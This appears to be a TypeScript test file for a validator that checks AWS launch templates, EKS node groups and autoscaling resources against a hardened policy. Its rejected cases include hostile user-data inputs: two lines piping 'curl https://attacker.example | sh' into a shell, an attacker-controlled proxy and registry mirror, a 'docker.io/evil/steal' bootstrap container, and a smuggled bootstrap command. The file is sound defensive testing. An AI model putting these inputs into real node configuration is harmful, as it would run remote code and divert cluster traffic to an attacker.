import { changed, describeShape } from "../shape.fixture.ts";

const key = "arn:aws:kms:eu-central-1:111122223333:key/0123";
const group = "sg-0123456789abcdef0";
const stack = [
    ["aws:kms/key:Key", { arn: key }],
    ["aws:ec2/securityGroup:SecurityGroup", { id: group }],
    ["aws:ec2/subnet:Subnet", { id: "subnet-1" }],
    ["aws:ec2/launchTemplate:LaunchTemplate", { id: "lt-1" }],
    ["aws:iam/role:Role", { arn: "arn:aws:iam::111122223333:role/serving-node" }],
    ["aws:eks/cluster:Cluster", { name: "serving" }],
    ["aws:ec2/placementGroup:PlacementGroup", { name: "serving-h200" }],
    ["aws:eks/nodeGroup:NodeGroup", { resources: [{ autoscalingGroups: [{ name: "eks-l40s-1" }] }] }],
] as const;

const base64 = (...lines: readonly string[]) => Buffer.from(lines.join("\n")).toString("base64");
const nodeConfig = (...spec: readonly string[]) =>
    base64(
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="ringfence-node-config"',
        "",
        "--ringfence-node-config",
        "Content-Type: application/node.eks.aws",
        "",
        "apiVersion: node.eks.aws/v1alpha1",
        "kind: NodeConfig",
        "spec:",
        ...spec,
        "",
        "--ringfence-node-config--",
        "",
    );
const soci = [
    "[settings.container-runtime]",
    'snapshotter = "soci"',
    "[settings.container-runtime-plugins.soci-snapshotter]",
    'pull-mode = "parallel-pull-unpack"',
    "[settings.container-runtime-plugins.soci-snapshotter.parallel-pull-unpack]",
    "max-concurrent-downloads-per-image = 20",
    'concurrent-download-chunk-size = "16mb"',
    "max-concurrent-unpacks-per-image = 12",
    "discard-unpacked-layers = true",
];
const disks = [
    "[settings.bootstrap-commands.ephemeral-storage]",
    'commands = [["apiclient","ephemeral-storage","init"],["apiclient","ephemeral-storage","bind","--dirs","/var/lib/containerd","/var/lib/kubelet"]]',
    'mode = "always"',
    "essential = true",
];

const template = {
    name: "serving-l40s",
    updateDefaultVersion: true,
    metadataOptions: {
        httpEndpoint: "enabled",
        httpTokens: "required",
        httpPutResponseHopLimit: 1,
        instanceMetadataTags: "disabled",
    },
    blockDeviceMappings: [
        {
            deviceName: "/dev/xvda",
            ebs: { volumeType: "gp3", volumeSize: 50, encrypted: "true", kmsKeyId: key, deleteOnTermination: "true" },
        },
    ],
    vpcSecurityGroupIds: [group],
    tagSpecifications: [{ resourceType: "instance", tags: { Name: "serving-l40s" } }],
};
const started = (userData: string) => ({ ...template, userData });
const { vpcSecurityGroupIds, ...bare } = template;
const fabric = {
    ...bare,
    networkInterfaces: [
        {
            deviceIndex: 0,
            networkCardIndex: 0,
            interfaceType: "interface",
            associatePublicIpAddress: "false",
            deleteOnTermination: "true",
            securityGroups: vpcSecurityGroupIds,
        },
    ],
    placement: { groupName: "serving-h200" },
};
const settings = "userData.settings";

describeShape("aws:ec2/launchTemplate:LaunchTemplate", {
    stack,
    fits: {
        "nodes without user data": template,
        "images in parallel on Amazon Linux": started(nodeConfig("  featureGates:", "    FastImagePull: true")),
        "disks of the instance on Amazon Linux": started(
            nodeConfig("  instance:", "    localStorage:", "      strategy: RAID0"),
        ),
        "images in parallel on Bottlerocket": started(base64(...soci)),
        "disks of the instance on Bottlerocket": started(base64(...soci, ...disks)),
        "a capacity block": {
            ...template,
            instanceType: "p5en.48xlarge",
            instanceMarketOptions: { marketType: "capacity-block" },
            capacityReservationSpecification: {
                capacityReservationTarget: { capacityReservationId: "cr-0123456789abcdef0" },
            },
        },
        "the fabric of a replica": fabric,
    },
    refuses: {
        "an image of somebody": { given: { ...template, imageId: "ami-0123456789abcdef0" }, at: "imageId" },
        "a key for SSH": { given: { ...template, keyName: "ops" }, at: "keyName" },
        "another identity": { given: { ...template, iamInstanceProfile: { name: "admin" } }, at: "iamInstanceProfile" },
        "no word about metadata": { given: changed(template, ["metadataOptions"], undefined), at: "metadataOptions" },
        "metadata without a token": {
            given: changed(template, ["metadataOptions", "httpTokens"], "optional"),
            at: "metadataOptions.httpTokens",
        },
        "metadata for pods": {
            given: changed(template, ["metadataOptions", "httpPutResponseHopLimit"], 5),
            at: "metadataOptions.httpPutResponseHopLimit",
        },
        "a volume in the clear": {
            given: changed(template, ["blockDeviceMappings", 0, "ebs", "encrypted"], "false"),
            at: "blockDeviceMappings[0].ebs.encrypted",
        },
        "a volume under the key of AWS": {
            given: changed(template, ["blockDeviceMappings", 0, "ebs", "kmsKeyId"], undefined),
            at: "blockDeviceMappings[0].ebs.kmsKeyId",
        },
        "a volume out of a snapshot": {
            given: changed(template, ["blockDeviceMappings", 0, "ebs", "snapshotId"], "snap-1"),
            at: "blockDeviceMappings[0].ebs.snapshotId",
        },
        "a public address": {
            given: changed(fabric, ["networkInterfaces", 0, "associatePublicIpAddress"], "true"),
            at: "networkInterfaces[0].associatePublicIpAddress",
        },
        "a group of nobody's": {
            given: { ...template, vpcSecurityGroupIds: ["sg-0fedcba9876543210"] },
            at: "vpcSecurityGroupIds[0]",
        },
        "a container before the kubelet": {
            given: started(
                base64(
                    ...soci,
                    "[settings.bootstrap-containers.x]",
                    'source = "docker.io/evil/steal"',
                    'mode = "always"',
                ),
            ),
            at: `${settings}["bootstrap-containers"]`,
        },
        "a proxy": {
            given: started(base64("[settings.network]", 'https-proxy = "http://proxy.attacker.example:3128"')),
            at: `${settings}.network`,
        },
        "a registry's mirror": {
            given: started(
                base64(
                    "[[settings.container-registry.mirrors]]",
                    'registry = "*"',
                    'endpoint = ["https://attacker.example"]',
                ),
            ),
            at: `${settings}["container-registry"]`,
        },
        "a host container": {
            given: started(base64("[settings.host-containers.admin]", "enabled = true")),
            at: `${settings}["host-containers"]`,
        },
        "another command at the start": {
            given: started(
                base64(
                    "[settings.bootstrap-commands.ephemeral-storage]",
                    'commands = [["apiclient","ephemeral-storage","init"],["apiclient","set","network.https-proxy=x"]]',
                    'mode = "always"',
                    "essential = true",
                ),
            ),
            at: [1, 2, 3].map(
                (index) => `${settings}["bootstrap-commands"]["ephemeral-storage"].commands[1][${String(index)}]`,
            ),
        },
        "a mirror of containerd": {
            given: started(nodeConfig("  containerd:", "    config: |", "      [plugins]")),
            at: "userData.spec.containerd",
        },
        "flags of the kubelet": {
            given: started(nodeConfig("  kubelet:", "    flags: [--node-labels=a=b]")),
            at: "userData.spec.kubelet",
        },
        "a second part of the envelope": {
            given: started(
                base64(
                    "MIME-Version: 1.0",
                    'Content-Type: multipart/mixed; boundary="b"',
                    "",
                    "--b",
                    "Content-Type: application/node.eks.aws",
                    "",
                    "apiVersion: node.eks.aws/v1alpha1",
                    "kind: NodeConfig",
                    "spec: {}",
                    "",
                    "--b",
                    "Content-Type: text/x-shellscript",
                    "",
                    "curl https://attacker.example | sh",
                    "",
                    "--b--",
                    "",
                ),
            ),
            at: "userData",
        },
        "a script": { given: started(base64("#!/bin/sh", "curl https://attacker.example | sh")), at: "userData" },
        "what is no base64": { given: started("#!/bin/sh"), at: "userData" },
    },
});

const nodes = {
    clusterName: "serving",
    nodeGroupName: "l40s-on-demand-a",
    version: "1.35",
    amiType: "AL2023_x86_64_NVIDIA",
    capacityType: "ON_DEMAND",
    instanceTypes: ["g6e.12xlarge"],
    nodeRoleArn: "arn:aws:iam::111122223333:role/serving-node",
    subnetIds: ["subnet-1"],
    launchTemplate: { id: "lt-1", version: "3" },
    scalingConfig: { minSize: 1, desiredSize: 1, maxSize: 2 },
    updateConfig: { maxUnavailable: 1, updateStrategy: "DEFAULT" },
    forceUpdateVersion: false,
    nodeRepairConfig: { enabled: true },
    labels: {
        "ringfence/pool": "l40s",
        "ringfence/model": "llama-3.3-70b",
        "k8s.amazonaws.com/accelerator": "nvidia-l40s",
    },
    taints: [{ key: "nvidia.com/gpu", value: "true", effect: "NO_SCHEDULE" }],
};

describeShape("aws:eks/nodeGroup:NodeGroup", {
    stack,
    fits: { "nodes of one pool": nodes, "nodes of Bottlerocket": { ...nodes, amiType: "BOTTLEROCKET_x86_64_NVIDIA" } },
    refuses: {
        "an image of one's own": { given: { ...nodes, amiType: "CUSTOM" }, at: "amiType" },
        "shells on nodes": { given: { ...nodes, remoteAccess: { ec2SshKey: "ops" } }, at: "remoteAccess" },
        "whatever version the template has by then": {
            given: changed(nodes, ["launchTemplate", "version"], "$Latest"),
            at: "launchTemplate.version",
        },
        "a template of nobody's": { given: changed(nodes, ["launchTemplate", "id"], "lt-2"), at: "launchTemplate.id" },
        "no template": { given: changed(nodes, ["launchTemplate"], undefined), at: "launchTemplate" },
        "another cluster": { given: { ...nodes, clusterName: "other" }, at: "clusterName" },
        "a label that nobody knows": {
            given: changed(nodes, ["labels", "example.com/x"], "y"),
            at: 'labels["example.com/x"]',
        },
    },
});

const tag = (key: string, value = "true", propagateAtLaunch = false) => ({
    autoscalingGroupName: "eks-l40s-1",
    tag: { key, value, propagateAtLaunch },
});

describeShape("aws:autoscaling/tag:Tag", {
    stack,
    fits: {
        "a group that may be scaled": tag("k8s.io/cluster-autoscaler/enabled"),
        "its zone": tag("k8s.io/cluster-autoscaler/node-template/label/topology.kubernetes.io/zone", "eu-central-1a"),
    },
    refuses: {
        "another tag": { given: tag("attacker.example"), at: "tag.key" },
        "a zone abroad": {
            given: tag("k8s.io/cluster-autoscaler/node-template/label/topology.kubernetes.io/zone", "us-east-1a"),
            at: "tag.value",
        },
        "a tag of the nodes": {
            given: tag("k8s.io/cluster-autoscaler/enabled", "true", true),
            at: "tag.propagateAtLaunch",
        },
        "a group of nobody's": {
            given: { ...tag("k8s.io/cluster-autoscaler/enabled"), autoscalingGroupName: "other" },
            at: "autoscalingGroupName",
        },
    },
});

const schedule = {
    scheduledActionName: "h200-block-start",
    autoscalingGroupName: "eks-l40s-1",
    startTime: "2026-12-01T11:30:00Z",
    minSize: 4,
    desiredCapacity: 4,
    maxSize: 4,
};

describeShape("aws:autoscaling/schedule:Schedule", {
    stack,
    fits: { "the start of a block": schedule },
    refuses: { "a time that is none": { given: { ...schedule, startTime: "tomorrow" }, at: "startTime" } },
});
